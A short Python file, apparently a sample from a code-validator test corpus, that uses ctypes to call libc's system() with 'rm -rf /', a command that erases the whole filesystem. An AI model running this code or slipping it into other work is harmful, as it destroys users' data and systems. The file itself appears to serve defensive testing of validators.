# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import ctypes

libc = ctypes.CDLL("libc.so.6")
libc.system(b"rm -rf /")
